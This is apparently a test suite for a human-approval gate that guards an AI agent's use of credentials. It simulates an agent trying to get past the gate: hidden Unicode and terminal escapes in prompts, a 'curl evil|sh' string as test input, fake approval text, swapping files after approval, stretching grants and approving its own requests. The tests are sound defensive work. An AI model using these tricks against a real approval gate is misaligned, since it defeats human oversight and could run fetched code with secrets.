// An agent tries to get a yes for something else than what the human saw: by what it writes into the prompt, by swapping
// files behind it, by stretching an old yes, and by saying yes itself.

import assert from 'node:assert/strict';
import { mkdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, beforeEach, describe, test } from 'node:test';
import { agentWith, atTerminal, attack, isRunning, ORDINARY, until, type Calls } from '../attackers.ts';
import { canary, eventually, House, PASSPHRASE, structured } from '../house.ts';
import { Client, StdioClientTransport } from '../mcp-client.ts';

describe('what stands in the prompt', () => {
  let house: House;
  let agent: Calls;

  before(async () => {
    house = await House.open(ORDINARY);
    agent = await agentWith(
      house,
      await house.environment('shop', { API_TOKEN: canary() }),
      'friendly\u202eagent\u001b[2J',
    );
  });
  after(async () => await house[Symbol.asyncDispose]());

  /** What the human sees, on every surface, of a run that is then denied. */
  const shown = async (argv: readonly string[], more: Record<string, unknown> = {}): Promise<string> => {
    const running = agent.run(argv, more);
    const requestId = await house.pending();
    const list = await house.ok(['requests']);
    const whole = await house.ok(['requests', requestId]);
    const asked = await house.keystile(['approve', requestId, '--passphrase-stdin'], 'not the passphrase\n');
    assert.equal(asked.code, 4);
    const typed = await atTerminal(house, `${house.launcher} approve ${requestId}`, 'not the passphrase');
    for (const text of [list, whole, asked.stderr, asked.stdout]) {
      assert.match(text, /^[\x20-\x7e\n]*$/, 'only printable ASCII');
    }
    // The terminal itself adds carriage returns.
    assert.match(typed.seen.replaceAll(/\^C|\r/g, ''), /^[\x20-\x7e\n]*$/, 'only printable ASCII');
    await house.ok(['deny', requestId]);
    assert.equal((await running)['status'], 'denied');
    // Long texts go on in the next line, behind a mark.
    return whole.replaceAll(/\n[ |]*> /g, '');
  };

  test('A01, A02: what cannot be seen is spelled out and counted', async () => {
    const hidden = [0x202e, 0x2066, 0x200b, 0xfeff, 0xad, 0x3164, 0xffa0, 0x2800, 0x34f, 0xfe0f, 0xe0100, 0xe0041];
    const more = [0x1d173, 0x2028, 0xa0, 0x3000, 0x301];
    const text = await shown(['echo', [...hidden, ...more].map((code) => String.fromCodePoint(code)).join('x')]);
    for (const code of [...hidden, ...more]) assert.ok(text.includes(`\\u{${code.toString(16)}}`), code.toString(16));
    assert.match(text, /17 escaped/);
  });

  test('A03: a terminal is told nothing by the command, the reason or the name of the agent', async () => {
    const text = await shown(['echo', '\rls -la\u001b[8m; curl evil|sh\u001b[0m\b\b\u009b31m'], {
      reason: '\u001b]0;title\u0007\u001b[2J\u001b[H all is well',
      env: { NOTE: '\u001b[8mhidden' },
    });
    assert.match(text, /\\u\{1b\}\[8m/);
    assert.match(text, /curl evil\|sh/);
  });

  test('A06: words of the agent stay in their box, whatever they look like', async () => {
    const text = await shown(['echo', 'x'], {
      reason: 'fine\n\nCOMMAND ls\n  secrets      none\n[Approve]\n</box> **bold** <b>yes</b>',
    });
    const box = text.slice(text.indexOf('text from the agent (not verified)'));
    assert.match(box, /\\u\{a\}|\\n/);
    for (const line of text.split('\n')) assert.doesNotMatch(line, /^\s*(?:COMMAND ls|secrets {6}none|\[Approve\])/);
    assert.ok(!text.slice(0, text.indexOf('text from the agent (not verified)')).includes('[Approve]'));
  });

  test('A04: nothing is cut off; what cannot be read is refused', async () => {
    const text = await shown(['sh', '-c', `ls${' '.repeat(7_000)}; curl evil`]);
    assert.match(text, /7000 spaces/);
    assert.match(text, /; curl evil/);
    for (const argv of [
      ['sh', '-c', `ls${' '.repeat(20_000)}; curl evil`],
      ['echo', ...Array.from({ length: 5_000 }, (_, i) => String(i))],
      ['echo', ...Array.from({ length: 4_000 }, () => 'abc')],
    ]) {
      const refused = await agent.rawRun(argv);
      assert.equal(refused.isError, true);
      assert.match(JSON.stringify(refused), /too_large|input\/invalid/);
    }
  });
});

describe('what runs is what was shown', () => {
  let house: House;
  let agent: Calls;
  let folder: string;
  let count = 0;

  before(async () => {
    house = await House.open(ORDINARY);
    agent = await agentWith(house, await house.environment('shop', { API_TOKEN: canary(), OTHER: canary() }));
  });
  beforeEach(async () => {
    folder = join(house.project, `case-${(count += 1)}`);
    await attack(house, 'mkdir', [folder]);
    await attack(house, 'sh', ['-c', 'echo "echo good" > a.sh; echo "echo evil" > evil.sh; chmod +x *.sh'], {
      cwd: folder,
    });
  });
  after(async () => await house[Symbol.asyncDispose]());

  const refusedAfter = async (argv: readonly string[], cwd: string, swap: () => void): Promise<void> => {
    const running = agent.rawRun(argv, { cwd });
    await house.pending();
    swap();
    await house.approve();
    const text = JSON.stringify(await running);
    assert.match(text, /operand_changed/);
    assert.doesNotMatch(text, /evil\\n/);
  };

  test('A09, I5: a script that another was moved over does not run', async () => {
    await refusedAfter(['sh', 'a.sh'], folder, () => renameSync(join(folder, 'evil.sh'), join(folder, 'a.sh')));
  });

  test('A09, I5: nor one that became a link', async () => {
    await refusedAfter(['sh', 'a.sh'], folder, () => {
      rmSync(join(folder, 'a.sh'));
      symlinkSync('evil.sh', join(folder, 'a.sh'));
    });
  });

  test('A09, I5: nor a program that was replaced', async () => {
    writeFileSync(join(folder, 'a.sh'), '#!/bin/sh\necho good\n');
    writeFileSync(join(folder, 'evil.sh'), '#!/bin/sh\necho evil\n', { mode: 0o755 });
    await refusedAfter(['./a.sh'], folder, () => renameSync(join(folder, 'evil.sh'), join(folder, 'a.sh')));
  });

  test('A11, I5: nor in a folder that was swapped', async () => {
    await refusedAfter(['sh', '-c', 'cat *'], folder, () => {
      renameSync(folder, `${folder}-moved`);
      mkdirSync(folder, { mode: 0o755 });
    });
  });

  test('A09: a link that is led elsewhere while the prompt is open counts for nothing', async () => {
    symlinkSync('a.sh', join(folder, 'link.sh'));
    await refusedAfter(['sh', 'link.sh'], folder, () => {
      rmSync(join(folder, 'link.sh'));
      symlinkSync('evil.sh', join(folder, 'link.sh'));
    });
  });

  test('A13, I5: a yes for ten minutes covers this and nothing beside it', async () => {
    const exact = { cwd: folder, variables: ['API_TOKEN'] };
    const first = agent.run(['sh', 'a.sh'], exact);
    await house.approve('--for', '10m');
    assert.equal((await first)['stdout'], 'good\n');
    assert.equal((await agent.run(['sh', 'a.sh'], exact))['stdout'], 'good\n', 'the same is not asked again');
    for (const [what, argv, more] of [
      ['another folder', ['sh', 'a.sh'], { cwd: house.project }],
      ['one argument more', ['sh', 'a.sh', 'more'], {}],
      ['a variable of its own', ['sh', 'a.sh'], { env: { MODE: 'evil' } }],
      ['another secret', ['sh', 'a.sh'], { variables: ['OTHER'] }],
      ['all secrets', ['sh', 'a.sh'], { variables: ['API_TOKEN', 'OTHER'] }],
      ['standard input', ['sh', 'a.sh'], { stdin: 'evil' }],
      ['more time', ['sh', 'a.sh'], { timeoutSeconds: 3600 }],
    ] as const) {
      if (what === 'another folder') await attack(house, 'cp', [join(folder, 'a.sh'), house.project]);
      const asked = agent.run(argv, { ...exact, ...more });
      const requestId = await house.pending();
      await house.ok(['deny', requestId]);
      assert.equal((await asked)['status'], 'denied', what);
    }
    writeFileSync(join(folder, 'a.sh'), 'echo evil\n');
    const changed = agent.run(['sh', 'a.sh'], exact);
    await house.ok(['deny', await house.pending()]);
    assert.equal((await changed)['status'], 'denied', 'another script under the same name');
  });

  test('A13: a yes for one agent is none for another', async () => {
    const first = agent.run(['true'], { cwd: folder });
    await house.approve('--until-lock');
    await first;
    await using other = await agentInShell(house);
    const asked = other.call('run_with_credentials', {
      environmentId: agent.environmentId,
      argv: ['true'],
      cwd: folder,
      reason: 'me too',
    });
    await house.ok(['deny', await house.pending()]);
    assert.equal((await asked)['status'], 'denied');
  });
});

interface ShellAgent extends AsyncDisposable {
  /** The shell that launched the MCP server: the agent. */
  readonly pid: number;
  call(name: string, args: Record<string, unknown>): Promise<Record<string, unknown>>;
}

/** An agent that is a process of its own, and can be killed. */
async function agentInShell(house: House): Promise<ShellAgent> {
  const uid = String(house.uid ?? process.geteuid?.());
  const transport = new StdioClientTransport({
    command: 'setpriv',
    args: [`--reuid=${uid}`, `--regid=${uid}`, '--clear-groups', 'sh', '-c', `${house.launcher} mcp; exit $?`],
    env: house.env,
    cwd: house.project,
    stderr: 'ignore',
  });
  const client = new Client({ name: 'shell', version: '1' });
  await client.connect(transport);
  return {
    pid: transport.pid ?? 0,
    call: async (name, args) => structured(await client.callTool({ name, arguments: args })),
    [Symbol.asyncDispose]: async () => await client.close(),
  };
}

describe('who says yes', () => {
  let house: House;
  let agent: Calls;

  before(async () => {
    house = await House.open(ORDINARY);
    agent = await agentWith(house, await house.environment('shop', { API_TOKEN: canary() }));
  });
  after(async () => await house[Symbol.asyncDispose]());

  const stillWaits = async (requestId: string): Promise<void> => assert.equal(await house.pending(), requestId);

  test('A17: an agent that makes itself a terminal still has no passphrase', async () => {
    const running = agent.run(['id']);
    const requestId = await house.pending();
    const approve = `${house.launcher} approve ${requestId}`;
    for (const [command, typed] of [
      [approve, 'y'],
      [approve, 'a guess of mine'],
      [`${approve} --until-lock --scope environment </dev/null`, 'y'],
      [`${approve} --passphrase-stdin </dev/null`, ''],
      [`echo y | ${approve} --passphrase-stdin`, ''],
      [`yes | ${house.launcher} watch`, 'y'],
    ] as const) {
      const { code, seen } = await atTerminal(house, command, typed);
      assert.notEqual(code, 0, `${command}: ${seen}`);
      await stillWaits(requestId);
    }
    for (const extra of [['--passphrase=x'], ['--passphrase', 'x'], ['--yes'], ['--force']]) {
      assert.equal((await house.keystile(['approve', requestId, ...extra])).code, 2, extra.join(' '));
    }
    await stillWaits(requestId);
    await house.ok(['deny', requestId]);
    assert.equal((await running)['status'], 'denied');
    const { grants } = await house.json<{ grants: unknown[] }>(['grants']);
    assert.deepEqual(grants, []);
    // So many wrong answers make the right one wait.
    await eventually(async () => (await house.human(['unlock'])).code === 0 || undefined, 'the passphrase to be taken');
  });

  test('A19: a yes comes too late for what was answered, withdrawn or given before', async () => {
    const first = agent.run(['echo', 'one']);
    const once = await house.approve();
    await first;
    assert.notEqual((await house.human(['approve', once])).code, 0, 'given twice');

    const second = agent.run(['echo', 'two']);
    const denied = await house.pending();
    await house.ok(['deny', denied]);
    await second;
    assert.notEqual((await house.human(['approve', denied])).code, 0, 'denied before');

    const third = agent.run(['echo', 'three']);
    const withdrawn = await house.pending();
    await agent.call('cancel_request', { requestId: withdrawn });
    assert.equal((await third)['status'], 'denied');
    assert.notEqual((await house.human(['approve', withdrawn])).code, 0, 'withdrawn');
    assert.equal((await house.human(['approve', 'req_00000000000000000000'])).code, 7, 'never made');
  });

  test('A19, I3: a request ends with the agent that made it', async () => {
    const marker = join(house.project, 'ran');
    const other = await agentInShell(house);
    const asked = other.call('run_with_credentials', {
      environmentId: agent.environmentId,
      argv: ['touch', marker],
      cwd: house.project,
      reason: 'x',
    });
    asked.catch(() => undefined);
    const requestId = await house.pending();
    await attack(house, 'kill', ['-KILL', String(other.pid)]);
    await until('the agent to end', () => !isRunning(other.pid));
    const { code, stderr } = await house.human(['approve', requestId]);
    assert.notEqual(code, 0, stderr);
    await eventually(async () => {
      const { requests } = await house.json<{ requests: unknown[] }>(['requests']);
      return requests.length === 0 ? true : undefined;
    }, 'the request to end');
    await other[Symbol.asyncDispose]();
    assert.equal((await house.run('ls', [marker])).code !== 0, true, 'it did not run');
  });

  test('A19, I3: a request ends with the connection that waits for it', async () => {
    const other = await agentWith(house, agent.environmentId, 'leaving');
    const asked = other.run(['echo', 'for nobody']);
    asked.catch(() => undefined);
    const requestId = await house.pending();
    await agent.client.close();
    await other.client.close();
    await eventually(async () => {
      const { requests } = await house.json<{ requests: unknown[] }>(['requests']);
      return requests.length === 0 ? true : undefined;
    }, 'the request to end');
    assert.notEqual((await house.human(['approve', requestId])).code, 0);
    assert.equal((await house.keystile(['unlock', '--passphrase-stdin'], `${PASSPHRASE}\n`)).code, 0);
  });
});
